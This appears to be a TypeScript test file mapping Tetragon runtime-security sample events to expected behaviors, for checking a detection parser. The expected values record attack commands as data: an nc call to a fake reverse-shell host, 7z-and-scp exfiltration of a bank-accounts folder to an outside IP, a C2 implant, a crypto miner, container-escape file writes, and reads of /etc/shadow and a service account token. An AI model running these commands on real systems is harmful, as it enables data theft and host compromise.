/**
 * Every line of the Tetragon samples → its behavior and key fields, or its skip reason.
 * Expected values were read from the samples.
 */
import { describeSampleFile, type Expectation } from './sample-expectations.js';

const XWING_LABELS = { 'app.kubernetes.io/name': 'xwing', class: 'xwing', org: 'alliance' };
const exec = (pod: string | null, binary: string, args?: string[]): Expectation => ({
  behavior: 'process-exec',
  pod,
  binary,
  ...(args ? { args } : {}),
  sourceEvent: 'process_exec',
});
const NO_BEHAVIOR: Expectation = { skip: 'no-behavior' };

describeSampleFile('tetragon/docs-current.jsonl', [
  { skip: 'tool-internal' }, // process_throttle START
  { skip: 'tool-internal' }, // process_throttle STOP
  {
    behavior: 'process-exec',
    pod: 'default/xwing',
    node: 'gke-john-632-default-pool-7041cac0-9s95',
    time: '2023-10-06T22:03:57.700326678Z',
    binary: '/usr/bin/curl',
    args: ['https://ebpf.io/applications/#tetragon'],
    pid: 52699,
    uid: 0,
    containerId: '551e161c47d8ff0eb665438a7bcd5b4e3ef5a297282b40a92b7c77d6bd168eb3',
    containerName: 'spaceship',
    image: 'docker.io/tgraf/netperf:latest',
    labels: XWING_LABELS,
    workload: 'xwing',
    parentBinary: '/bin/bash',
    rule: null,
  },
  exec('default/xwing', '/usr/bin/curl', ['https://ebpf.io/applications/#tetragon']),
  {
    behavior: 'file-write',
    pod: 'default/file-access',
    binary: '/bin/vi',
    file: { path: '/etc/passwd', operation: 'write' },
    rule: 'file-monitoring',
    enforced: false,
    sourceEvent: 'process_kprobe:security_file_permission',
  },
  // security_kernel_read_file with READING_MODULE (2), host process, no node_name in the docs
  {
    behavior: 'module-load',
    pod: null,
    node: null,
    binary: '/usr/sbin/insmod',
    module: '/home/tixxdz/tetragon/contrib/tester-progs/kernel_module_hello.ko',
  },
  { behavior: 'module-load', pod: null, binary: '/usr/sbin/insmod', module: 'kernel_module_hello' },
  { behavior: 'module-load', pod: 'demo-app/test-pod', binary: '/bin/mount', module: 'fs-xfs' },
  exec(null, '/sbin/modprobe', ['-q', '--', 'fs-xfs']),
  {
    behavior: 'module-load',
    pod: null,
    binary: '/sbin/modprobe',
    module: '/usr/lib/modules/6.2.0-32-generic/kernel/fs/xfs/xfs.ko',
  },
  { behavior: 'module-load', pod: null, binary: '/sbin/modprobe', module: 'xfs' },
  // free_module (unload) is in no row of the table: an alert named after the hook (no policy_name)
  { behavior: 'alert', pod: null, binary: '/usr/sbin/rmmod', rule: 'free_module' },
  {
    behavior: 'privilege-escalation',
    pod: 'default/xwing',
    binary: '/tmp/su',
    uid: 11,
    privilege: { fromUid: 11, toUid: 0, toGid: 0 },
  },
  {
    behavior: 'privilege-escalation',
    pod: 'default/xwing',
    binary: '/bin/su',
    privilege: { fromUid: 0, toGid: 0 },
  },
  {
    behavior: 'privilege-escalation',
    pod: 'default/xwing',
    binary: '/bin/su',
    privilege: { fromUid: 0, toUid: 0 },
  },
  { behavior: 'alert', pod: 'default/xwing', binary: '/bin/bash', rule: 'security_bprm_creds_from_file' },
  {
    behavior: 'namespace-change',
    pod: 'default/xwing',
    binary: '/usr/bin/nsenter',
    rule: 'namespace-access',
    args: ['-t', '1', '-m', '-u', '-n', '-i', '-p'],
  },
  exec('default/xwing', '/usr/bin/whoami', ['--version']),
  NO_BEHAVIOR, // process_exit
  {
    behavior: 'privilege-escalation',
    pod: 'default/xwing',
    binary: '/bin/dmesg',
    privilege: { fromUid: 0, capability: 'CAP_SYSLOG' },
  },
]);

describeSampleFile('tetragon/testdata-events.jsonl', [
  // no envelope "time": the exec time (process.start_time) stands in
  {
    behavior: 'process-exec',
    pod: 'default/tiefighter',
    node: 'my-node',
    time: '2022-10-18T03:16:18.273546829Z',
    binary: '/usr/bin/netserver',
    args: ['-D'],
  },
  exec('default/deathstar-6f87496b94-qdlh8', '/starwars-docker', ['--port', '80', '--host', '0.0.0.0']),
  exec('default/deathstar-6f87496b94-gjf74', '/starwars-docker', ['--port', '80', '--host', '0.0.0.0']),
]);

describeSampleFile('tetragon/docs-history.jsonl', [
  exec('default/xwing', '/usr/bin/whoami', ['--version']),
  NO_BEHAVIOR,
  {
    behavior: 'file-write',
    pod: 'default/xwing',
    binary: '/usr/bin/vi',
    file: { path: '/etc/passwd', operation: 'write' },
  },
  // openat(AT_FDCWD, "tracing_policy.yaml", O_RDONLY) on the host
  {
    behavior: 'file-read',
    pod: null,
    binary: '/usr/bin/cat',
    file: { path: 'tracing_policy.yaml', operation: 'read' },
  },
]);

const ES = 'tenant-jobs/elasticsearch-56f8fc6988-pb8c7';
const ES2 = 'tenant-jobs/elasticsearch-56f8fc6988-65smb';
const PRIV = 'default/privileged-pod';
const MERLIN = '/tmp/go-build3518135900/b001/exe/main';
describeSampleFile('tetragon/legacy-book-2022.jsonl', [
  NO_BEHAVIOR, // process_close (enterprise)
  {
    behavior: 'network-connect',
    pod: ES,
    binary: '/usr/bin/curl',
    network: {
      protocol: 'tcp',
      family: 'ipv4',
      saddr: '10.88.0.7',
      sport: 49168,
      daddr: '142.250.180.196',
      dport: 80,
    },
  },
  exec(ES, '/usr/bin/curl', ['www.google.com']),
  NO_BEHAVIOR,
  // path as printed by that era's exporter: relative to the mount
  {
    behavior: 'file-write',
    pod: 'tenant-jobs/elasticsearch-56f8fc6988-sh8rm',
    binary: '/usr/bin/vi',
    file: { path: 'etc/passwd', operation: 'write' },
  },
  {
    behavior: 'network-listen',
    pod: 'tenant-jobs/coreapi-79568ff848-ljh8n',
    binary: '/usr/local/bin/python',
    network: { protocol: 'tcp', family: 'ipv4', saddr: '0.0.0.0', sport: 9080 },
  },
  exec(ES2, '/usr/bin/cat', ['/usr/share/elasticsearch/config/elasticsearch.keystore']),
  NO_BEHAVIOR,
  {
    behavior: 'file-read',
    pod: ES2,
    binary: '/usr/bin/cat',
    file: { path: 'usr/share/elasticsearch/config/elasticsearch.keystore', operation: 'read' },
  },
  exec(ES2, '/usr/bin/sh', ['lifecycle.sh']),
  NO_BEHAVIOR,
  NO_BEHAVIOR, // close
  {
    behavior: 'network-connect',
    pod: ES2,
    binary: '/usr/bin/nc',
    network: {
      protocol: 'tcp',
      family: 'ipv4',
      saddr: '10.88.0.6',
      sport: 48416,
      daddr: '64.225.45.153',
      dport: 443,
    },
  },
  exec(ES2, '/usr/bin/nc', ['raiz3gjkgtfhkkc.not-reverse-shell.com', '443']),
  NO_BEHAVIOR,
  exec(PRIV, '/usr/bin/bash'),
  exec(PRIV, '/usr/sbin/nginx', ['-g', 'daemon off;']),
  {
    behavior: 'network-listen',
    pod: PRIV,
    binary: '/usr/sbin/nginx',
    network: { protocol: 'tcp', family: 'ipv4', saddr: '0.0.0.0', sport: 80 },
  },
  exec(PRIV, '/bin/bash'),
  exec(PRIV, '/docker-entrypoint.sh', ['/docker-entrypoint.sh', 'nginx', '-g', 'daemon off;']),
  exec(PRIV, '/usr/bin/nsenter', ['-t', '1', '-m', '-u', '-n', '-i', '-p', 'bash']),
  exec(null, '/usr/bin/containerd-shim'),
  exec(null, '/usr/bin/runc'),
  {
    behavior: 'network-connect',
    pod: null,
    binary: MERLIN,
    network: {
      protocol: 'tcp',
      family: 'ipv4',
      saddr: '10.88.0.3',
      sport: 43374,
      daddr: '34.116.205.187',
      dport: 443,
    },
  },
  exec(null, MERLIN),
  exec(PRIV, '/usr/bin/cat'),
  NO_BEHAVIOR,
  {
    behavior: 'network-connect',
    pod: null,
    binary: MERLIN,
    network: {
      protocol: 'tcp',
      family: 'ipv4',
      saddr: '10.88.0.3',
      sport: 47048,
      daddr: '34.116.205.187',
      dport: 443,
    },
  },
  NO_BEHAVIOR,
  exec(null, '/usr/bin/7z', ['/usr/bin/7z', 'a', 's3nsitiv3.7z', '../ops_bank_accounts/']),
  NO_BEHAVIOR,
  NO_BEHAVIOR,
  exec(null, '/bin/sh', ['-c', 'scp -i ~/.ssh/id_rsa s3nsitiv3.7z natalia@34.116.205.187:~']),
  NO_BEHAVIOR,
  exec(null, '/usr/bin/ssh'),
  exec(null, '/usr/bin/scp', ['-i', '/root/.ssh/id_rsa', 's3nsitiv3.7z', 'natalia@34.116.205.187:~']),
  NO_BEHAVIOR,
  exec(null, '/bin/sh', ['-c', '7z a s3nsitiv3.7z ../ops_bank_accounts/']),
  NO_BEHAVIOR,
  {
    behavior: 'network-connect',
    pod: null,
    binary: '/usr/bin/ssh',
    network: {
      protocol: 'tcp',
      family: 'ipv4',
      saddr: '10.88.0.3',
      sport: 49662,
      daddr: '34.116.205.187',
      dport: 22,
    },
  },
]);

const DEB = 'default/test-pod-debian';
describeSampleFile('tetragon/runtime-radar-captures.jsonl', [
  exec('default/test-pod-debian-raw', '/usr/bin/base64', ['-d']),
  exec('default/test-pod-debian-raw', '/usr/bin/chmod', ['+x', 'xmrig']),
  {
    behavior: 'file-write',
    pod: 'default/test-pod-debian-umh',
    binary: '/usr/bin/bash',
    args: ['-c', 'echo test > /sysproc/core_pattern'],
    file: { path: '/sysproc/core_pattern', operation: 'write' },
    rule: 'file-monitoring',
  },
  NO_BEHAVIOR, // process_exit (pkill)
  {
    behavior: 'file-write',
    pod: null,
    node: null,
    binary: '/usr/bin/bash',
    file: { path: '/tmp/cgrp/x/notify_on_release', operation: 'write' },
  },
  {
    behavior: 'file-write',
    pod: null,
    binary: '/usr/bin/bash',
    file: { path: '/tmp/cgrp/release_agent', operation: 'write' },
  },
  // security_mmap_file has no row: an alert named by its TracingPolicy
  {
    behavior: 'alert',
    pod: 'ingress-nginx/ingress-nginx-controller-56748c4f7c-nfsq8',
    binary: '/usr/bin/nginx',
    rule: 'file-monitoring',
  },
  {
    behavior: 'network-connect',
    pod: DEB,
    node: 'experts-k8s-cs',
    binary: '/usr/bin/curl',
    containerId: '332cff0fb99f03f8b4fb9633f245ba21ad43339eeafd3b0ac3e5d9a38371262c',
    network: {
      protocol: 'tcp',
      family: 'ipv4',
      saddr: '10.244.0.97',
      sport: 55106,
      daddr: '140.82.121.4',
      dport: 443,
    },
    rule: 'tcp-out-monitoring',
    enforced: false,
  },
  exec(DEB, '/proc/self/fd/4'),
  exec(DEB, '/usr/bin/nc', ['-vz', 'postgres', '5432']),
  exec(DEB, '/tmp/linpeas.sh', ['/tmp/linpeas.sh']),
  { behavior: 'alert', pod: DEB, binary: '/root/uring/curing/build/client', rule: 'io-uring' },
  {
    behavior: 'file-read',
    pod: 'default/test-pod-debian-cap',
    binary: '/usr/bin/cat',
    file: {
      path: '/run/secrets/kubernetes.io/serviceaccount/..2024_03_18_12_27_42.2985670933/token',
      operation: 'read',
    },
  },
  {
    behavior: 'module-load',
    pod: 'default/test-pod-modload-ubuntu',
    binary: '/usr/sbin/insmod',
    module: 'reverse_shell',
    rule: 'kmod-load-monitoring',
  },
  {
    behavior: 'file-write',
    pod: 'default/test-pod-debian-privileged',
    binary: '/usr/bin/bash',
    file: { path: '/etc/ld.so.preload', operation: 'write' },
  },
  {
    behavior: 'volume-mount',
    pod: 'default/test-pod-debian-privileged',
    containerId: '497809a2cbb0695fbd5383072cfb59e5c3b6905ab1ac336147cccbcf4a2b224e',
    containerName: 'test-pod-debian',
    image: 'docker.io/library/debian:12.2-slim',
    binary: '/usr/bin/mount',
    args: ['/dev/vda1', '/mnt/hola'],
    mount: { source: '/dev/vda1', target: '/mnt/hola' },
    rule: 'mount',
    sourceEvent: 'process_kprobe:__x64_sys_mount',
  },
  exec(DEB, '/usr/bin/openssl', ['engine', 'dynamic', '-pre', 'SO_PATH:./hostname.so', '-pre', 'LOAD']),
  exec(DEB, '/usr/bin/openssl', ['enc', '-in', '/etc/passwd']),
  exec(DEB, '/usr/bin/openssl', ['s_server']),
  {
    behavior: 'privilege-escalation',
    pod: DEB,
    binary: '/usr/bin/su',
    privilege: { fromUid: 5, toUid: 0, toGid: 60 },
  },
  {
    behavior: 'privilege-escalation',
    pod: 'default/test-pod-debian-priv',
    binary: '/usr/bin/unshare',
    privilege: { fromUid: 0, toUid: 0, toGid: 0 },
  },
  {
    behavior: 'ptrace',
    pod: 'default/test-pod-ubuntu-ptrace',
    binary: '/root/ptrace/exploit',
    rule: 'ptrace-monitoring',
  },
  {
    behavior: 'alert',
    pod: 'default/test-pod-debian-raw',
    binary: '/root/raw_socket/a.out',
    rule: 'raw-socket-monitoring',
  },
  { behavior: 'alert', pod: 'default/test-pod-debian-raw', binary: '/usr/bin/nmap', rule: 'file-monitoring' },
  { behavior: 'alert', pod: DEB, binary: '/usr/bin/bash', rule: 'dup' },
  { behavior: 'alert', pod: DEB, binary: '/usr/bin/ls', rule: 'connect' }, // tcp_sendmsg: data on an open socket
  { behavior: 'ptrace', pod: DEB, binary: '/usr/bin/strace', rule: 'ptrace' },
  {
    behavior: 'file-write',
    pod: DEB,
    binary: '/usr/bin/vim',
    file: { path: '/etc/crontab', operation: 'write' },
  },
  {
    behavior: 'file-write',
    pod: DEB,
    binary: '/usr/bin/vim',
    file: { path: '/root/.ssh/authorized_keys', operation: 'write' },
  },
  exec(DEB, '/usr/bin/ssh', ['-L', '127.0.0.1:8080:10.0.2.5:6443', 'ubuntu@10.0.2.5']),
  exec(DEB, '/usr/bin/ssh', ['-R', '127.0.0.1:8080:10.0.2.5:6443', 'ubuntu@10.0.2.5']),
  exec(DEB, '/usr/bin/ssh', ['-D', '8888', '-N', 'admin@10.125.11.114']),
  {
    behavior: 'network-connect',
    pod: 'default/openssh-server',
    binary: '/usr/sbin/sshd',
    network: {
      protocol: 'tcp',
      family: 'ipv4',
      saddr: '10.244.0.245',
      sport: 38854,
      daddr: '10.244.0.232',
      dport: 8080,
    },
    rule: 'connect',
  },
  {
    behavior: 'network-listen',
    pod: 'default/openssh-server',
    binary: '/usr/sbin/sshd',
    network: { protocol: 'tcp', family: 'ipv4', saddr: '0.0.0.0', sport: 58000 },
    rule: 'network-socket',
  },
  {
    behavior: 'file-read',
    pod: DEB,
    binary: '/usr/bin/head',
    file: { path: '/etc/shadow', operation: 'read' },
  },
  {
    behavior: 'file-write',
    pod: DEB,
    binary: '/usr/bin/vim',
    file: { path: '/etc/passwd', operation: 'write' },
  },
  exec(DEB, '/usr/bin/bash'),
]);
